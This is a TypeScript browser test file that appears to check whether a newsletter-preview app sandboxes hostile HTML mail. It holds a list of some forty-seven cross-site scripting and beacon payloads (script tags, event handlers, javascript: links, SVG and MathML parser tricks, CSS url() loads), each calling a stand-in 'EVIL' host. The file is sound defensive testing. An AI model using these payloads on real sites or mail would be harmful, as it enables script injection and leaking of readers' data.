import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, onTestFinished, test } from 'vitest'
import { openBrowser, requireBrowser } from '../helpers/browser.ts'
import { makeNewsletter } from '../helpers/newsletter.ts'
import { openStudio } from '../studio/open-studio.ts'

/** HTML that tells another server as soon as anything in it runs. `EVIL` is its address, `N` the number of the piece. */
const PIECES: readonly string[] = [
  '<script>new Image().src="EVIL/N"</script>',
  '<script src="EVIL/N"></script>',
  '<script type="module">import("EVIL/N")</script>',
  '<img src="x" onerror="new Image().src=\'EVIL/N\'">',
  '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="new Image().src=\'EVIL/N\'">',
  '<body onload="new Image().src=\'EVIL/N\'">',
  '<p style="animation:x 1ms" onanimationstart="new Image().src=\'EVIL/N\'">x</p><style>@keyframes x{to{opacity:.9}}</style>',
  '<input autofocus onfocus="new Image().src=\'EVIL/N\'">',
  '<details open ontoggle="new Image().src=\'EVIL/N\'"><summary>x</summary></details>',
  '<video src="x" onerror="new Image().src=\'EVIL/N\'"></video>',
  '<svg onload="new Image().src=\'EVIL/N\'"></svg>',
  '<svg><script>new Image().src="EVIL/N"</script></svg>',
  '<svg><script href="EVIL/N"></script></svg>',
  '<svg><animate onbegin="new Image().src=\'EVIL/N\'" attributeName="x" dur="1ms"></animate></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>new Image().src=\'EVIL/N\'</script>"></iframe></foreignObject></svg>',
  '<svg><image href="EVIL/N"></image></svg>',
  '<svg><use href="EVIL/N#x"></use></svg>',
  '<iframe srcdoc="<script>new Image().src=\'EVIL/N\'</script>"></iframe>',
  '<iframe src="EVIL/N"></iframe>',
  '<iframe src="javascript:new Image().src=\'EVIL/N\'"></iframe>',
  '<object data="EVIL/N"></object>',
  '<embed src="EVIL/N">',
  '<meta http-equiv="refresh" content="0;url=EVIL/N">',
  '<meta http-equiv="refresh" content="0;url=javascript:new Image().src=\'EVIL/N\'">',
  '<meta http-equiv="Content-Security-Policy" content="default-src *">',
  '<link rel="stylesheet" href="EVIL/N">',
  '<link rel="prefetch" href="EVIL/N">',
  '<link rel="modulepreload" href="EVIL/N">',
  '<style>@import "EVIL/N";</style>',
  '<style>@font-face{font-family:y;src:url(EVIL/N)}p{font-family:y}</style>',
  '<p style="background:url(EVIL/N)">x</p>',
  '<style>p:not([x]){list-style:url(EVIL/N);border-image:url(EVIL/N);cursor:url(EVIL/N),auto}</style>',
  '<p style="width:expression(new Image().src=\'EVIL/N\');behavior:url(EVIL/N)">x</p>',
  '<img src="EVIL/N">',
  '<audio src="EVIL/N" autoplay></audio>',
  '<form action="EVIL/N" id="f"><button class="go">x</button></form>',
  '<form action="/api/inbox" method="post" enctype="text/plain"><button class="go">x</button></form>',
  '<a class="go" href="javascript:new Image().src=\'EVIL/N\'">x</a>',
  '<a class="go" href="&#106;avascript:new Image().src=\'EVIL/N\'" target="_blank">x</a>',
  '<a class="go" href="java\nscript:new Image().src=\'EVIL/N\'">x</a>',
  '<a class="go" href="data:text/html,<script>new Image().src=\'EVIL/N\'</script>">x</a>',
  '<a class="go" href="vbscript:x">x</a>',
  '<svg><a class="go" href="javascript:new Image().src=\'EVIL/N\'"><text y="20">x</text></a></svg>',
  '<base href="EVIL/N/">',
  '<template><script>new Image().src="EVIL/N"</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=new(Image)().src=\'EVIL/N\'>">x</p></noscript>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=new(Image)().src=\'EVIL/N\'>">',
]

/** Tabs that are open at a time. */
const AT_ONCE = 8

const wrap = (piece: string) => `<!doctype html><html><head><title>quiet</title></head><body>${piece}</body></html>`

describe.skipIf(!(await requireBrowser()))('a hostile mail', () => {
  let browser: Browser
  let evil: Server
  let address: string
  let hits: string[] = []

  beforeAll(async () => {
    browser = await openBrowser()
    evil = createServer((request, response) => {
      const [, number = '', kind] = (request.url ?? '').split('/')
      if (kind === 'page') return response.setHeader('Content-Type', 'text/html').end(wrap(fill(Number(number))))
      hits.push(number)
      return response.end()
    })
    await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve))
    address = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`
  })
  afterAll(async () => {
    await browser.close()
    evil.closeAllConnections()
    evil.close()
  })

  const fill = (number: number) =>
    (PIECES[number] ?? '').replaceAll('EVIL/N', `${address}/${number}`).replaceAll('EVIL', address)

  /** Tabs, and the dialogs that were shown in each. */
  const openTabs = async (count: number) => {
    const context = await browser.newContext()
    onTestFinished(async () => await context.close())
    return await Promise.all(
      Array.from({ length: count }, async () => {
        const page = await context.newPage()
        const complaints: string[] = []
        page.on('dialog', (dialog) => {
          complaints.push(dialog.message())
          void dialog.dismiss()
        })
        return { page, complaints }
      }),
    )
  }
  /** Opens an address, and touches everything that can be touched. */
  const visit = async (page: Page, url: string) => {
    await page.goto(url, { waitUntil: 'load' }).catch(() => undefined)
    for (const target of await page.locator('.go').all())
      await target.click({ timeout: 1000, force: true, noWaitAfter: true }).catch(() => undefined)
    await page.waitForTimeout(120)
  }

  test('would tell where nothing holds it', { timeout: 60_000 }, async () => {
    const [tab] = await openTabs(1)
    if (!tab) throw new Error('no tab')
    for (const number of [0, 3, 10, 17, 19, 22, 33, 37]) {
      hits = []
      await visit(tab.page, `${address}/${number}/page`)
      expect(hits, PIECES[number]).not.toEqual([])
    }
  })

  test('runs nothing, loads nothing from elsewhere and leads nowhere', { timeout: 180_000 }, async () => {
    const template = `export default ({ issue }) => <html><body dangerouslySetInnerHTML={{ __html: PIECES[issue.slug.slice(1)] }} /></html>`
    const pieces = JSON.stringify(PIECES.map((_, index) => fill(index)))
    const issue =
      '---\ntitle: T\nweek: 2026-W34\ntemplate: raw\n---\nText.\n\n## One\n\n### [E](https://example.com/)\n\nText.\n'
    const issues = PIECES.map((_, index) => [`issues/p${index}.md`, issue] as const)
    const mails = PIECES.map((_, index) => {
      const head =
        'From: a@example.com\r\nTo: b@example.com\r\nSubject: x\r\nContent-Type: text/html; charset=utf-8\r\n'
      return [`data/inbox/m${index}.eml`, `${head}\r\n${wrap(fill(index))}\r\n`] as const
    })
    const root = makeNewsletter({
      ...Object.fromEntries([...issues, ...mails]),
      'emails/raw.tsx': `const PIECES = ${pieces}\n${template}\n`,
    })
    const { preview, get } = await openStudio(root)
    hits = []
    const visits = [...PIECES.keys()].flatMap((number) => [
      { number, path: `/mail/p${number}` },
      { number, path: `/inbox/m${number}/mail` },
    ])
    const tabs = await openTabs(AT_ONCE)
    await Promise.all(
      tabs.map(async ({ page, complaints }) => {
        for (let next = visits.shift(); next; next = visits.shift()) {
          await visit(page, `${preview.url}${next.path}`)
          expect(complaints, PIECES[next.number]).toEqual([])
          expect(new URL(page.url()).origin, PIECES[next.number]).toBe(preview.url)
        }
      }),
    )
    expect(hits.map((number) => PIECES[Number(number)])).toEqual([])
    for (const number of PIECES.keys()) {
      const html = await (await fetch(`${preview.url}/mail/p${number}`)).text()
      expect(html, 'the piece is there').toContain(fill(number).slice(0, 20))
    }
    expect((await get<{ total: number }>('/api/inbox')).body.total).toBe(PIECES.length)
  })
})
